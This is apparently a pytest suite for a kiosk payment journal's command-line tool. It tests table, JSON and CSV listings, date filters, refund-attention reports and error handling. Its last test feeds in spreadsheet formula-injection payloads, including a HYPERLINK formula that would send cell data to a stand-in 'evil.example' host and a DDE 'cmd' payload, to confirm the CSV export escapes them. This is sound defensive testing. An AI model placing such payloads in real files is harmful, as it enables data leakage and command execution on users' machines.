"""`kiosk journal`: table, JSON, CSV, show and attention on a real journal; bad input exits 2."""

from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from kiosk.cli import journal as journal_cli
from kiosk.config import Config
from kiosk.journal import FILE_NAME, Journal
from kiosk.payment.sale import Reason, SaleState

JAN = datetime(2025, 1, 10, 12, 0, tzinfo=UTC)
MAR = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)


class Clock:
    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


def _sale(j: Journal, amount: str, payment_id: int, state: SaleState, **kw: object) -> int:
    sale_id = j.begin_sale(
        Decimal(amount), external_id=None, source="keypad", scheme="standard", device_id="KIOSK-001"
    )
    j.payment_created(sale_id, payment_id, "2025-03-01T17:03:00.000+05:00")
    j.set_state(sale_id, state, **kw)  # type: ignore[arg-type]
    return sale_id


@pytest.fixture
def config(tmp_path: Path) -> Config:
    """A journal with an archived sale (mid-2024), two January sales and two from March."""
    clock = Clock(datetime(2024, 6, 1, 12, 0, tzinfo=UTC))
    with Journal.open(tmp_path, clock=clock) as j:
        _sale(j, "5.00", 100, SaleState.CANCELLED, reason=Reason.CANCELLED)
        clock.now = JAN
        _sale(j, "100.50", 101, SaleState.PROCESSED)
        _sale(j, "0.10", 102, SaleState.FAILED, reason=Reason.DECLINED)
        clock.now = MAR
        late = _sale(j, "2500.00", 103, SaleState.UNKNOWN, reason=Reason.BANK_UNREACHABLE)
        j.set_state(late, SaleState.PROCESSED, Reason.PAID_AFTER_CANCEL, needs_refund=True)
        j.add_note(late, "customer left a phone number")
        _sale(j, "777.77", 104, SaleState.CANCELLED, reason=Reason.CANCELLED)
        assert j.archive_older_than(180) == 1
    return Config().replace("storage", data_dir=str(tmp_path))


def cli(config: Config, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    parser = argparse.ArgumentParser(prog="kiosk journal")
    journal_cli.add_arguments(parser)
    code = journal_cli.run(parser.parse_args(argv), config)
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_table_lists_newest_first(config: Config, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(config, capsys)
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0].split()[:4] == ["ID", "CREATED", "(local)", "AMOUNT"]
    assert [line.split()[0] for line in lines[1:]] == ["5", "4", "3", "2"]
    row = {line.split()[0]: line for line in lines[1:]}
    assert "777.77" in row["5"] and "cancelled" in row["5"]
    assert "2500.00" in row["4"] and "paid_after_cancel" in row["4"] and "NEEDS REFUND" in row["4"]
    assert "0.10" in row["3"] and "declined" in row["3"]


def test_json_is_a_list_of_records_with_exact_amounts(
    config: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = cli(config, capsys, "--json")
    records = json.loads(out)
    assert code == 0 and [r["sale_id"] for r in records] == [5, 4, 3, 2]
    assert [r["amount"] for r in records] == ["777.77", "2500.00", "0.10", "100.50"]
    assert records[1]["state"] == "processed" and records[1]["needs_refund"] is True
    assert records[1]["note"] == "customer left a phone number"


def test_csv_has_a_header_and_one_row_per_sale(
    config: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = cli(config, capsys, "--csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert code == 0 and rows[0] == journal_cli.COLUMNS
    table = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [(r["sale_id"], r["amount"], r["state"]) for r in table] == [
        ("5", "777.77", "cancelled"),
        ("4", "2500.00", "processed"),
        ("3", "0.10", "failed"),
        ("2", "100.50", "processed"),
    ]


@pytest.mark.parametrize(
    ("argv", "ids"),
    [
        # Local midnight of 2025-02-01 lies between the January and March sales in every zone.
        (["--since", "2025-02-01"], [5, 4]),
        (["--since", "2025-02-01T00:00:00+00:00"], [5, 4]),
        (["--since", (JAN + timedelta(minutes=1)).isoformat()], [5, 4]),
        (["--since", "2025-01-01", "--limit", "3"], [5, 4, 3]),
        (["--limit", "1"], [5]),
        (["--archived"], [5, 4, 3, 2, 1]),
        (["--since", "2026-01-01"], []),
    ],
)
def test_since_limit_and_archived(
    config: Config, capsys: pytest.CaptureFixture[str], argv: list[str], ids: list[int]
) -> None:
    code, out, _ = cli(config, capsys, "--json", *argv)
    assert code == 0 and [r["sale_id"] for r in json.loads(out)] == ids


def test_an_empty_list_says_so(config: Config, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(config, capsys, "--since", "2030-01-01")[:2] == (0, "No sales.\n")
    code, out, _ = cli(config, capsys, "--csv", "--since", "2030-01-01")
    assert (code, out) == (0, ",".join(journal_cli.COLUMNS) + "\n")


def test_show_prints_the_record_and_its_history(
    config: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = cli(config, capsys, "show", "4")
    assert code == 0
    assert out.startswith("Sale 4  (NEEDS REFUND)\n")
    assert "2500.00" in out and "paid_after_cancel" in out
    history = out.split("History:\n")[1].splitlines()
    assert [line.split()[2] for line in history] == [
        "created",
        "payment_created",
        "state",
        "state",
        "needs_refund",
        "note",
    ]


@pytest.mark.parametrize("argv", [["show", "1", "--json"], ["--json", "show", "1"]])
def test_show_json_finds_archived_sales_too(
    config: Config, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    code, out, _ = cli(config, capsys, *argv)
    body = json.loads(out)
    assert code == 0 and body["sale"]["sale_id"] == 1 and body["sale"]["archived"] is True
    assert body["sale"]["amount"] == "5.00"
    assert [e["kind"] for e in body["events"]][-1] == "archived"


def test_attention_lists_only_open_cases(
    config: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = cli(config, capsys, "attention")
    lines = out.splitlines()
    assert code == 0 and lines[0].split()[-1] == "NOTE"
    assert lines[1].split()[0] == "4" and "customer left a phone number" in lines[1]
    assert "1 paid sale(s) without goods" in out
    code, out, _ = cli(config, capsys, "attention", "--json")
    assert [r["sale_id"] for r in json.loads(out)] == [4]
    with Journal.open(config.data_dir) as j:
        j.settle(4, "refunded in the Kaspi Pay app")
    assert cli(config, capsys, "attention")[:2] == (0, "No sales need attention.\n")


@pytest.mark.parametrize(
    ("argv", "complaint"),
    [
        (["--since", "2025-13-01"], "--since"),
        (["--since", "yesterday"], "--since"),
        (["--since", ""], "--since"),
        (["--limit", "0"], "--limit"),
        (["--limit", "ten"], "--limit"),
        (["--limit", "2.5"], "--limit"),
        (["show", "abc"], "SALE_ID"),
        (["show", "0"], "SALE_ID"),
        (["--json", "--csv"], "--json and --csv"),
        (["--csv", "show", "2"], "--csv"),
        (["--since", "2025-01-01", "show", "2"], "--since"),
        (["--limit", "1", "attention"], "--limit"),
    ],
)
def test_bad_input_is_one_line_exit_2_and_touches_nothing(
    config: Config, capsys: pytest.CaptureFixture[str], argv: list[str], complaint: str
) -> None:
    before = snapshot(config.data_dir)
    code, out, err = cli(config, capsys, *argv)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and complaint in err and "Traceback" not in err
    assert snapshot(config.data_dir) == before


def test_an_unknown_sale_exits_1(config: Config, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(config, capsys, "show", "99")
    assert (code, out) == (1, "") and "no sale 99" in err


def test_a_missing_journal_is_reported_not_created(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = Config().replace("storage", data_dir=str(tmp_path / "nowhere"))
    code, out, err = cli(config, capsys)
    assert (code, out) == (1, "") and "no journal at" in err and "storage.data_dir" in err
    assert not (tmp_path / "nowhere").exists()


def test_a_damaged_journal_is_one_line_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / FILE_NAME).write_bytes(b"\x00garbage" * 512)
    config = Config().replace("storage", data_dir=str(tmp_path))
    code, out, err = cli(config, capsys, "attention")
    assert (code, out) == (1, "") and "damaged" in err and err.count("\n") == 1


def test_works_under_the_kiosk_parser(config: Config, capsys: pytest.CaptureFixture[str]) -> None:
    from kiosk import cli

    # kiosk.cli hands run() the loaded config only to modules that ask for it.
    assert journal_cli.NEEDS_CONFIG is True
    args = cli.build_parser().parse_args(["journal", "--json", "show", "2"])
    assert journal_cli.run(args, config) == 0
    assert json.loads(capsys.readouterr().out)["sale"]["amount"] == "100.50"


@pytest.mark.parametrize(
    ("external_id", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"refund")', "'=HYPERLINK(\"http://evil"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\tTAB", "'\tTAB"),
        ("-250.00", "-250.00"),  # a negative number stays a number
        ("order-17", "order-17"),
    ],
)
def test_csv_cells_cannot_become_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], external_id: str, cell: str
) -> None:
    with Journal.open(tmp_path) as j:
        j.begin_sale(
            Decimal("250"),
            external_id=external_id,
            source="host",
            scheme="standard",
            device_id="KIOSK-001",
        )
    code, out, _ = cli(Config().replace("storage", data_dir=str(tmp_path)), capsys, "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and rows[0]["external_id"].startswith(cell)
    assert rows[0]["amount"] == "250"  # the journal keeps the amount as typed
